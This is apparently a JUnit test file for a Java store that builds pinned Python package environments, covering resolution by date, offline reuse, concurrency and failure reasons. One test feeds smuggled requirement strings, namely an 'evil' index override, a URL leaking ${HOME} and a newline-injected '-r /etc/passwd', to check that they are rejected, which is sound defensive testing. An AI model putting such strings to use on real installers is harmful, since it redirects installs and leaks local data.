package io.bauplan.udf.environment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.bauplan.udf.api.EnvironmentFailure;
import io.bauplan.udf.api.EnvironmentFailure.Reason;
import io.bauplan.udf.api.EnvironmentSpec;
import io.bauplan.udf.environment.EnvironmentPolicy.Interpreters;
import io.bauplan.udf.environment.EnvironmentPolicy.Network;
import io.bauplan.udf.environment.EnvironmentPolicy.Sources;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Against the real package index that the machine's pip or uv is set up for.
class EnvironmentStoreTest {
  private static final InterpreterFinder INTERPRETERS =
      new InterpreterFinder(List.of(), System.getenv());

  @TempDir static Path folder;

  private EnvironmentStore store(Network network) throws IOException {
    return new EnvironmentStore(
        folder.resolve("store"),
        INTERPRETERS,
        new EnvironmentPolicy(
            network, Sources.WHEELS_ONLY, Interpreters.FOUND_ONLY, System.getenv()));
  }

  private static EnvironmentSpec spec(String version, String... requirements) {
    return new EnvironmentSpec(Optional.of(version), List.of(requirements), Optional.empty());
  }

  private EnvironmentFailure failure(EnvironmentSpec spec) throws IOException {
    EnvironmentStore store = store(Network.ALLOWED);
    EnvironmentException thrown =
        catchThrowableOfType(EnvironmentException.class, () -> store.get(spec));
    assertThat(thrown).as("a failure for %s", spec).isNotNull();
    return thrown.failure();
  }

  private static String run(ReadyEnvironment environment, String code)
      throws IOException, InterruptedException {
    Process process =
        new ProcessBuilder(
                environment.interpreter().binary().toString(),
                "-I",
                "-S",
                "-c",
                "import site; site.addsitedir(%s)\n%s"
                    .formatted("'" + environment.sitePackages() + "'", code))
            .redirectErrorStream(true)
            .start();
    String out = new String(process.getInputStream().readAllBytes());
    process.waitFor();
    return out.strip();
  }

  @Test
  void resolvesAnOldPinAgainstThePackagesOfItsTime() throws Exception {
    ReadyEnvironment environment = store(Network.ALLOWED).get(spec("3.11", "pandas==2.0"));

    assertThat(environment.bound()).contains("2023-05-03");
    assertThat(
            run(
                environment,
                "import pandas, numpy; print(pandas.__version__, numpy.__version__[0])"))
        .isEqualTo("2.0.0 1");
    assertThat(run(environment, "import importlib.metadata as m; print(m.version('pandas'))"))
        .isEqualTo("2.0.0");
    store(Network.OFFLINE).compile(environment);
    long compiled;
    try (var files = Files.walk(folder.resolve("store/pkg/pandas"))) {
      compiled = files.filter(f -> f.toString().endsWith(".pyc")).count();
    }
    assertThat(compiled).as("byte-compiled modules of pandas").isGreaterThan(200);
  }

  @Test
  void servesAKnownEnvironmentWithoutTheNetwork() throws Exception {
    EnvironmentSpec six = spec("3.11", "six==1.16.0");
    ReadyEnvironment built = store(Network.ALLOWED).get(six);

    ReadyEnvironment again = store(Network.OFFLINE).get(six);

    assertThat(again.sitePackages()).isEqualTo(built.sitePackages());
    assertThat(again.packages()).isEqualTo(built.packages());
    assertThat(run(again, "import six; print(six.__version__)")).isEqualTo("1.16.0");
  }

  @Test
  void fetchesOnlyThePackageThatIsNew() throws Exception {
    LocalDate day = LocalDate.of(2024, 3, 1);
    EnvironmentStore store = store(Network.ALLOWED);
    store.get(new EnvironmentSpec(Optional.of("3.11"), List.of("six"), Optional.of(day)));
    Path numpy;
    try (var versions = Files.walk(folder.resolve("store/pkg/pyarrow"), 2)) {
      numpy = versions.filter(p -> p.getFileName().toString().contains("cp311")).findFirst().get();
    }
    Object before = Files.getAttribute(numpy, "unix:ino");

    ReadyEnvironment more =
        store.get(
            new EnvironmentSpec(Optional.of("3.11"), List.of("six", "tomli"), Optional.of(day)));

    assertThat(Files.getAttribute(numpy, "unix:ino")).isEqualTo(before);
    assertThat(more.packages()).extracting(ResolvedPackage::name).contains("tomli", "pyarrow");
    assertThat(run(more, "import tomli, six, pyarrow; print(pyarrow.__version__)"))
        .startsWith("15.");
  }

  @Test
  void constrainsNumpyWhereAPackageWasBuiltForNumpy1() throws Exception {
    // A day on which NumPy 2 was there and this pandas, which claims to work with it, was not fit.
    ReadyEnvironment environment =
        store(Network.ALLOWED)
            .get(
                new EnvironmentSpec(
                    Optional.of("3.11"),
                    List.of("pandas==2.0"),
                    Optional.of(LocalDate.of(2024, 9, 1))));

    assertThat(run(environment, "import pandas, numpy; print(numpy.__version__[0])"))
        .isEqualTo("1");
  }

  @Test
  void buildsOnceWhereManyAskAtATime() throws Exception {
    EnvironmentStore store = store(Network.ALLOWED);
    long before = environments();
    List<Callable<ReadyEnvironment>> tasks = new ArrayList<>();
    for (int i = 0; i < 8; i++) {
      tasks.add(() -> store.get(spec("3.11", "six==1.15.0")));
    }
    try (ExecutorService threads = Executors.newFixedThreadPool(8)) {
      List<Future<ReadyEnvironment>> done = threads.invokeAll(tasks);
      ReadyEnvironment first = done.getFirst().get();
      for (Future<ReadyEnvironment> one : done) {
        assertThat(one.get()).isEqualTo(first);
      }
    }
    assertThat(environments()).isEqualTo(before + 1);
  }

  private static long environments() throws IOException {
    try (var environments = Files.list(folder.resolve("store/env"))) {
      return environments.count();
    }
  }

  @Test
  void namesAnUnknownPackage() throws IOException {
    EnvironmentFailure failure = failure(spec("3.11", "no-such-package-of-bauplan", "six"));

    assertThat(failure.reason()).isEqualTo(Reason.UNKNOWN_PACKAGE);
    assertThat(failure.subject()).isEqualTo("no-such-package-of-bauplan");
    assertThat(failure.message()).contains("no-such-package-of-bauplan");
  }

  @Test
  void namesAnUnknownVersion() throws IOException {
    EnvironmentFailure failure = failure(spec("3.11", "six==99.1"));

    assertThat(failure.reason()).isEqualTo(Reason.UNKNOWN_PACKAGE);
    assertThat(failure.subject()).isEqualTo("six==99.1");
  }

  @Test
  void namesAConflict() throws IOException {
    EnvironmentFailure failure = failure(spec("3.11", "pandas==2.0", "numpy==1.20.0"));

    assertThat(failure.reason()).isEqualTo(Reason.CONFLICT);
    assertThat(failure.message()).contains("numpy");
  }

  @Test
  void tellsThatNoWheelFitsTheInterpreter() throws IOException {
    EnvironmentFailure failure = failure(spec("3.12", "pandas==1.5.3"));

    assertThat(failure.reason()).isEqualTo(Reason.CONFLICT);
    assertThat(failure.message()).contains("pandas==1.5.3").contains("CPython 3.12");
  }

  @Test
  void refusesWhatIsNoRequirement() throws IOException {
    assertThat(failure(spec("3.11", "--index-url=http://evil")).reason())
        .isEqualTo(Reason.UNKNOWN_PACKAGE);
    assertThat(failure(spec("3.11", "x @ http://evil/${HOME}")).reason())
        .isEqualTo(Reason.UNKNOWN_PACKAGE);
    assertThat(failure(spec("3.11", "six\n-r /etc/passwd")).reason())
        .isEqualTo(Reason.UNKNOWN_PACKAGE);
  }

  @Test
  void namesTheInterpretersThereAre() throws IOException {
    EnvironmentFailure failure = failure(spec("3.7"));

    assertThat(failure.reason()).isEqualTo(Reason.UNKNOWN_INTERPRETER);
    assertThat(failure.subject()).isEqualTo("3.7");
    assertThat(failure.message()).contains("3.11.").contains("3.10.");
  }

  @Test
  void tellsThatTheNetworkIsOff() throws IOException {
    EnvironmentStore store = store(Network.OFFLINE);

    EnvironmentException thrown =
        catchThrowableOfType(
            EnvironmentException.class, () -> store.get(spec("3.11", "unheard-of-package-x")));

    assertThat(thrown.failure().reason()).isEqualTo(Reason.OFFLINE);
  }

  @Test
  void tellsThatTheStoreCannotBeWritten() throws IOException {
    Path file = Files.createFile(folder.resolve("file"));

    Throwable thrown =
        catchThrowableOfType(
            IOException.class,
            () ->
                new EnvironmentStore(
                    file.resolve("store"), INTERPRETERS, EnvironmentPolicy.of(Map.of())));

    assertThat(thrown).hasMessageContaining("file");
  }

  @Test
  void forgetsWhatAnInterruptCutShort() {
    InterpreterFinder finder = new InterpreterFinder(List.of(), System.getenv());
    Thread.currentThread().interrupt();
    finder.all();
    assertThat(Thread.interrupted()).isTrue();

    assertThat(finder.all()).isEqualTo(INTERPRETERS.all());
  }

  @Test
  void findsInterpretersWithoutShims() {
    assertThat(INTERPRETERS.all()).isNotEmpty();
    assertThat(INTERPRETERS.all())
        .allSatisfy(i -> assertThat(i.binary().toString()).doesNotContain("shims"));
    assertThat(INTERPRETERS.find(Optional.of("3.11")).orElseThrow().version()).startsWith("3.11.");
    assertThat(INTERPRETERS.nearest("3.7").orElseThrow().version()).startsWith("3.8");
  }
}
